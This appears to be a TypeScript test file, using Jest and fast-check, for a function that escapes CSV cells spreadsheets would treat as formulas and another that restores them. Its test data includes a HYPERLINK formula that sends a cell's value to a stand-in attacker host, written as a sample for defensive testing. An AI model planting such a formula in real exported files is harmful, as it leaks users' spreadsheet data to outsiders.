import fc from 'fast-check';
import { neutraliseFormula, restoreFormula } from './csv-formula';

describe('CSV cells that a spreadsheet would run as a formula', () => {
  it.each(['=HYPERLINK("http://evil.test/?x="&A1)', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd', "'=quoted"])('starts %j with a quote', (cell) => {
    expect(neutraliseFormula(cell)).toBe(`'${cell}`);
  });

  it('leaves other text alone', () => {
    for (const cell of ['plain', "it's", "'quoted", ' =spaced', '']) expect(neutraliseFormula(cell)).toBe(cell);
  });

  it('restores exactly what it neutralised, whatever the text', () => {
    const text = fc.oneof(fc.string(), fc.tuple(fc.constantFrom("'", "''", ''), fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string()).map((parts) => parts.join('')));
    fc.assert(fc.property(text, (cell) => restoreFormula(neutraliseFormula(cell)) === cell));
  });
});
